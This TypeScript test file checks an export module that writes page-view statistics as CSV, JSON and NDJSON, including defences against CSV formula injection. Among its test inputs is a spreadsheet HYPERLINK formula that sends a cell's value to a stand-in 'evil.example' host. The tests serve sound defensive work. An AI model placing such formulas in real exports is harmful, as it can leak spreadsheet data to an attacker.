import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { ViewRow } from '../../../../src/docs-service/schema.ts'
import {
  COLUMNS,
  COMPARED_COLUMNS,
  createFormat,
  EXTENSIONS,
  type ExportHeader,
  type Extension,
  type Format,
} from '../../../../src/page-views/file/formats.ts'
import { PREVIOUS_RANGE, RANGE, row } from '../example-result.ts'

const HEADER = { ...RANGE, totals: { human: 3, ai: 2, total: 5 } }
/** The cells after the path, for any columns. */
const HEADING = ['path', ...Object.keys(COLUMNS)].join()
const REST = Object.values(COLUMNS)
  .map((read) => read(row('/a')))
  .join()

/** Any code points. `unit: 'binary'` is the same, but takes seconds. */
const anyText = fc.string({ unit: fc.nat(0x10ffff).map((code) => String.fromCodePoint(code)) })

function write(extension: Extension, pages: ViewRow[][]): string {
  return writeAs(createFormat(extension, COLUMNS), pages)
}

function writeAs<Row>({ begin, rows, end }: Format<Row>, pages: Row[][], header: ExportHeader = HEADER) {
  let isFirst = true
  const parts = pages.map((page) => {
    const text = rows(page, isFirst)
    isFirst &&= page.length === 0
    return text
  })
  return begin(header) + parts.join('') + end()
}

test('CSV: a header and lines that end in CRLF', () => {
  expect(write('.csv', [[row('/a', 1, 2)], [], [row('/b', 0.5)]])).toBe(
    'path,human,ai,total\r\n/a,1,2,3\r\n/b,0.5,0,0.5\r\n',
  )
  expect(write('.csv', [[]])).toBe('path,human,ai,total\r\n')
})

test.each([
  ['/a,b', '"/a,b"'],
  ['/say "hi"', '"/say ""hi"""'],
  ['/a\nb', '"/a\nb"'],
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
  ['\t=1', `"'\t=1"`],
  ['\u200b=1', "'\u200b=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['＝1', "'＝1"],
  ['/a;=1', '"/a;=1"'],
  ['/a\t=1', '"/a\t=1"'],
])('CSV: the path %j is written as %j', (path, cell) => {
  expect(write('.csv', [[row(path)]])).toBe(`${HEADING}\r\n${cell},${REST}\r\n`)
})

test('CSV: any path is read back as one cell that no spreadsheet runs', () => {
  const tricky = fc.string({ unit: fc.constantFrom(...'a=+-@,"\'\r\n\t＝＋－＠ ') })
  fc.assert(
    fc.property(fc.array(fc.oneof(anyText, tricky)), (paths) => {
      const [, ...records] = splitCells(write('.csv', [paths.map((path) => row(path))]), ',')
      expect(records.pop()).toEqual([''])
      const cells = records.map(([cell]) => cell)
      expect(records).toEqual(cells.map((cell) => [cell, ...REST.split(',')]))
      for (const cell of cells) expect(cell).toMatch(/^(?:[^=+\-@\t\r\n＝＋－＠]|$)/u)
      const unquoted = cells.map((cell, index) => (cell === `'${paths[index]}` ? paths[index] : cell))
      expect(unquoted).toEqual(paths)
    }),
  )
})

test.each([';', '\t'])('CSV: a spreadsheet that splits cells at %j runs none of them', (separator) => {
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom(...'/a=+@"; \t,\n') }), (path) => {
      const [, ...lines] = splitCells(write('.csv', [[row(`/${path}`)]]), separator)
      for (const cell of lines.flat()) expect(cell).toMatch(/^(?!\s*[=+@])/u)
    }),
  )
})

test('JSON: one object with dates, totals and views, also without a beginning and without rows', () => {
  const json = JSON.parse(write('.json', [[row('/a')]]))
  expect(json).toMatchObject({ ...HEADER, views: [row('/a')] })
  expect(Object.keys(json)).toEqual(['dateFrom', 'dateTo', 'totals', 'views'])
  const { dateFrom: _, ...header } = HEADER
  const text = writeAs(createFormat('.json', COLUMNS), [[]], header)
  expect(JSON.parse(text)).toEqual({ dateFrom: null, ...header, views: [] })
})

test('JSON and NDJSON: any rows in any split into pages are read back', () => {
  const path = anyText.map((text) => text.toWellFormed())
  const count = fc.double({ min: 0, noNaN: true, noDefaultInfinity: true }).map((number) => number + 0)
  const rows = fc.array(fc.tuple(path, fc.nat(), count).map((each) => row(...each)))
  fc.assert(
    fc.property(fc.array(rows), (pages) => {
      expect(JSON.parse(write('.json', pages)).views).toMatchObject(pages.flat())
      const lines = write('.ndjson', pages).split('\n')
      expect(lines.pop()).toBe('')
      expect(lines.map((line) => JSON.parse(line))).toMatchObject(pages.flat())
    }),
  )
})

test('a comparison adds columns at the end, in every format', () => {
  const rows = [{ ...row('/a'), previous: 10, change: -9, previousHuman: 6, previousAi: 4 }]
  const compared = (extension: Extension) => writeAs(createFormat(extension, COMPARED_COLUMNS), [rows])
  const header = `${HEADING},previous,change,previousHuman,previousAi`
  expect(compared('.csv')).toBe(`${header}\r\n/a,${REST},10,-9,6,4\r\n`)
  const [first = ''] = compared('.ndjson').split('\n')
  expect(Object.keys(JSON.parse(first)).join()).toBe(header)
  expect(JSON.parse(first)).toMatchObject({ previous: 10, change: -9, previousHuman: 6, previousAi: 4 })
  expect(JSON.parse(compared('.json')).views[0]).toEqual(JSON.parse(first))
  const previous = { ...PREVIOUS_RANGE, totals: HEADER.totals }
  const json = JSON.parse(writeAs(createFormat('.json', COMPARED_COLUMNS), [rows], { ...HEADER, previous }))
  expect(Object.keys(json)).toEqual(['dateFrom', 'dateTo', 'totals', 'previous', 'views'])
  expect(json).toMatchObject({ ...HEADER, previous })
})

test('no format contains unknown fields of a row', () => {
  const odd = { ...row('/a'), previous: 1, change: '=1+1\r\n=2+2' }
  for (const extension of EXTENSIONS) expect(write(extension, [[odd]])).toBe(write(extension, [[row('/a')]]))
})

/** As spreadsheets do: quotes count only at a cell's start, and text after the closing quote is kept. */
function splitCells(text: string, separator: string): string[][] {
  const lines: string[][] = [['']]
  const token = /(?<=^|[\r\n]|SEPARATOR)"((?:[^"]|"")*)"|SEPARATOR|\r\n|\r|\n|[\s\S]/.source
  const tokens = new RegExp(token.replaceAll('SEPARATOR', separator), 'g')
  for (const [all, quoted] of text.matchAll(tokens)) {
    const line = lines.at(-1) ?? []
    if (all === separator) line.push('')
    else if (/^[\r\n]+$/.test(all)) lines.push([''])
    else line[line.length - 1] += quoted?.replaceAll('""', '"') ?? all
  }
  return lines
}
